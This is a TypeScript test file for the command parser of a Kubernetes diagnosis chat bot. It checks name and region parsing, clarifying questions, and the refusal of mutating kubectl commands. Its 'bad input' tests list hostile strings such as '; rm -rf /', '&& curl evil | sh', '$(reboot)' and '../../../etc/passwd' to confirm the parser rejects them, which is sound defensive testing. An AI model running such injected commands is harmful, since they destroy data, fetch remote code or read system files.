import * as fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { catalogue } from '../../../test/core/catalogue.ts';
import { parseCommand } from './command.ts';
import type { Parsed } from './command.ts';

const say = (text: string): Parsed => parseCommand(text, catalogue);
/** "model-server ml-platform eu-west-1 rollout-stuck", or the refusal with its choices. */
function short(text: string): string {
  const parsed = say(text);
  if (parsed.is === 'diagnose')
    return [parsed.name || '(all)', parsed.namespace, parsed.region ?? 'everywhere', parsed.playbook ?? 'triage'].join(
      ' ',
    );
  if (parsed.is === 'unclear')
    return `? ${parsed.because} ${parsed.choices.map((one) => `[${one.command}]`).join('')}`.trim();
  return JSON.stringify(parsed);
}
const MODEL = 'model-server ml-platform eu-west-1 rollout-stuck';

describe('diagnose', () => {
  test.each([
    'diagnose model-server eu-west-1',
    'diagnose eu-west-1 model-server',
    'eu model-server',
    'model-server ireland',
    'check the model-server in eu please',
    'DIAGNOSE Model-Server EU-WEST-1',
    'diagnose deployment model-server in region eu',
    'diagnose deploy/model-server --context=eu-west-1',
    'diagnose --context eu deployment.apps/model-server',
    'diagnose -n ml-platform --region eu model-server',
    'deploy/model-server eu',
    'diagnose "model-server" eu',
    'diagnose `model-server` “eu”',
    'diagnose model-server-5d8c7b9f4-x2x7k eu',
    'diagnose pod/model-server-5d8c7b9f4-x2x7k eu',
    'diagnose svc/model-server eu',
    'diagnose model-server\neu',
    'diagnose\u00a0model-server\teu',
    '\u202ediagnose model-server eu\u202c',
    'diagnose rollout-stuck model-server eu',
  ])('%j', (text) => {
    expect(short(text)).toBe(MODEL);
  });

  test('a symptom leads to the playbook that knows it', () => {
    expect(short('model-server is slow in eu')).toBe('model-server ml-platform eu-west-1 slow-inference');
  });

  test('a region that is left out means all of them', () => {
    expect(short('diagnose model-server')).toBe('model-server ml-platform everywhere rollout-stuck');
  });

  test('a deployment that the config does not name may exist all the same', () => {
    expect(short('diagnose embedder eu -n other')).toBe('embedder other eu-west-1 rollout-stuck');
  });

  test.each(["what's broken", 'what’s broken?', 'whats broken', 'what is wrong', 'diagnose', 'diagnose everything'])(
    '%j: triage of everything',
    (text) => {
      expect(short(text)).toMatch(/^\(all\) ml-platform everywhere (triage)$/);
    },
  );

  test.each(["what's broken in ireland", 'is anything wrong in eu', 'diagnose eu'])(
    '%j: triage of a region',
    (text) => {
      expect(short(text)).toBe('(all) ml-platform eu-west-1 triage');
    },
  );

  test('words for a symptom lead to the playbook that knows them', () => {
    expect(short('pods not ready in eu')).toBe('(all) ml-platform eu-west-1 rollout-stuck');
  });
});

describe('what is not clear is asked, never guessed', () => {
  test.each([
    [
      'diagnose modle-server eu',
      '? I know no `modle-server`. Did you mean model-server? [diagnose model-server eu-west-1]',
    ],
    ['daignose model-server', '? I know no `daignose`. Did you mean `/mlp diagnose`? [diagnose model-server]'],
    ['stauts', '? I know no `stauts`. Did you mean `/mlp status`? [status]'],
    [
      'diagnose model-server api-gateway eu',
      '? Which one? model-server or api-gateway. [diagnose model-server eu-west-1][diagnose api-gateway eu-west-1]',
    ],
    [
      'diagnose model-server eu us',
      '? Which region? eu-west-1 or us-east-1. Without one I look at all. [diagnose model-server eu-west-1][diagnose model-server us-east-1][diagnose model-server]',
    ],
    [
      'diagnose model-server eu-wset-1',
      '? I know no region `eu-wset-1`. Regions: us-east-1, eu-west-1, ap-southeast-1. [diagnose model-server eu-west-1]',
    ],
    [
      'diagnose model-server sa-east-1',
      '? I know no region `sa-east-1`. Regions: us-east-1, eu-west-1, ap-southeast-1. [diagnose model-server us-east-1]',
    ],
    [
      'diagnose model-server --context mars',
      '? I know no region `mars`. Regions: us-east-1, eu-west-1, ap-southeast-1.',
    ],
    ['diagnose model-server --context', '? `--context` needs a value, for example `--context us-east-1`.'],
    [
      'diagnose foo bar eu',
      '? I do not understand `foo bar`. Name one deployment: model-server, api-gateway, feature-store, replication-service.',
    ],
    [
      'diagnose Foo_Bar',
      '? `foo_bar` is no name that Kubernetes allows. Services: model-server, api-gateway, feature-store, replication-service.',
    ],
    [
      'diagnose model-server -n No_Such',
      '? `No_Such` is no name that Kubernetes allows. Services: model-server, api-gateway, feature-store, replication-service.',
    ],
    ['status mars', '? I know no region `mars`. Regions: us-east-1, eu-west-1, ap-southeast-1.'],
    ['show x', '? `x` is no incident: write `INC-214`.'],
    ['why not', '? Which remedy? For example `/mlp why not rollback INC-214`.'],
  ])('%s', (text, answer) => {
    expect(short(text)).toBe(answer);
  });

  test('every choice is a command that is understood', () => {
    for (const text of [
      'diagnose modle-server eu',
      'diagnose model-server api-gateway eu',
      'diagnose model-server eu us',
      'stauts',
      'restart model-server',
      'status eu-wset-1',
    ]) {
      const parsed = say(text);
      expect(parsed.is).toBe('unclear');
      for (const { command } of parsed.is === 'unclear' ? parsed.choices : [])
        expect(say(command).is).not.toBe('unclear');
    }
  });
});

describe('kubectl lines', () => {
  test.each([
    'kubectl --context=eu-west-1 -n ml-platform describe deployment model-server',
    'kubectl --context eu -n ml-platform get deploy model-server -o yaml',
    'kubectl rollout status deployment/model-server --context eu',
    'kubectl get svc model-server --context eu',
  ])('looking is a diagnosis: %s', (text) => {
    expect(short(text)).toBe(MODEL);
  });

  test('without a name it is triage of the namespace', () => {
    expect(short('kubectl get deployments -n other -o wide')).toBe('(all) other everywhere triage');
  });

  test.each([
    ['kubectl set image deploy/model-server server=x:v2', 'kubectl set image', 'diagnose model-server'],
    [
      'kubectl rollout pause deploy/model-server --context eu',
      'kubectl rollout pause',
      'diagnose model-server eu-west-1',
    ],
    ['resume model-server eu', 'resume', 'diagnose model-server eu-west-1'],
  ])('changing is refused, with the way to get it: %s', (text, what, command) => {
    expect(short(text)).toBe(
      `? I do not run \`${what}\` for anybody. I look first, and offer the change with a preview where it helps: \`/mlp ${command}\`. [${command}]`,
    );
  });

  test.each([
    'kubectl delete pod model-server-5d8c7b9f4-x2x7k',
    'kubectl exec -it model-server-5d8c7b9f4-x2x7k -- sh',
    'kubectl drain node-1',
  ])('anything else is refused: %s', (text) => {
    expect(short(text)).toMatch(/^\? I run no `kubectl (delete|exec|drain)`\. I look with/);
  });

  test('and kubectl alone', () => {
    expect(short('kubectl')).toMatch(/^\? Paste the whole/);
  });
});

describe('the other commands', () => {
  test.each([
    ['', { is: 'help', about: null }],
    ['help', { is: 'help', about: null }],
    ['--help', { is: 'help', about: null }],
    ['status', { is: 'status', region: null }],
    ['status in eu', { is: 'status', region: 'eu-west-1' }],
    ['runs', { is: 'runs' }],
    ['show INC-214', { is: 'show', incident: 214 }],
    ['show #214', { is: 'show', incident: 214 }],
    ['show', { is: 'show', incident: null }],
    ['why not rollback INC-3', { is: 'why-not', remedy: 'rollback', incident: 3 }],
    ['why not resume and roll back', { is: 'why-not', remedy: 'resume-and-roll-back', incident: null }],
    ['stop', { is: 'stop', what: null }],
    ['stop inc-7', { is: 'stop', what: 7 }],
    ['stop all', { is: 'stop', what: 'all' }],
    ['STOP EVERYTHING', { is: 'stop', what: 'all' }],
    ['stop off', { is: 'stop', what: 'off' }],
    ['undo INC-7', { is: 'undo', incident: 7 }],
    ['playbooks', { is: 'playbooks' }],
  ])('%s', (text, parsed) => {
    expect(say(text)).toEqual(parsed);
  });

  test('stop of anything else stops nothing', () => {
    for (const text of ['stop model-server', 'stop alll', 'stop INC-', 'stop 1e9'])
      expect(say(text).is).toBe('unclear');
  });
});

describe('bad input', () => {
  test('10,000 characters', () => {
    expect(short('x'.repeat(10_000))).toBe('? That is 10000 characters; a command has at most 500. Try `/mlp help`.');
  });

  test.each([
    '$(reboot)',
    '; rm -rf /',
    '&& curl evil | sh',
    '🔥',
    'مرحبا',
    '<script>',
    '<!channel>',
    '../../../etc/passwd',
    '\u0000',
    '`id`',
  ])('%j opens nothing', (text) => {
    expect(['unclear', 'help']).toContain(say(text).is);
  });

  test.each([
    'diagnose $(reboot)',
    'diagnose a;b',
    'diagnose deploy/$(id)',
    'diagnose -n "$(id)" model-server',
    'diagnose ../x',
    'kubectl get deploy "a|b"',
  ])('%s is no name', (text) => {
    expect(say(text).is).toBe('unclear');
  });

  test('whatever is typed: an answer of bounded length; a target is always one that Kubernetes allows', () => {
    const words = fc.constantFrom(
      'diagnose',
      'kubectl',
      'get',
      'rollout',
      'stop',
      'why',
      'model-server',
      'eu',
      '-n',
      '--context',
      '--context=',
      'deploy/',
      'all',
      'INC-1',
      '`',
      '"',
      '$(x)',
    );
    const text = fc
      .array(fc.oneof(words, fc.string(), fc.string({ unit: 'grapheme' })), { maxLength: 8 })
      .map((all) => all.join(' '));
    fc.assert(
      fc.property(text, (typed) => {
        const parsed = say(typed);
        const because = parsed.is === 'unclear' ? parsed.because : '';
        expect(because.length).toBeLessThan(500);
        expect((because.match(/`/g) ?? []).length % 2).toBe(0);
        if (parsed.is !== 'diagnose') return;
        expect(parsed.name).toMatch(/^([a-z0-9]([-a-z0-9.]*[a-z0-9])?)?$/);
        expect(parsed.namespace).toMatch(/^[a-z0-9]([-a-z0-9]*[a-z0-9])?$/);
        expect([null, ...catalogue.regions.map((one) => one.name)]).toContain(parsed.region);
      }),
      { numRuns: 2_000 },
    );
  });
});
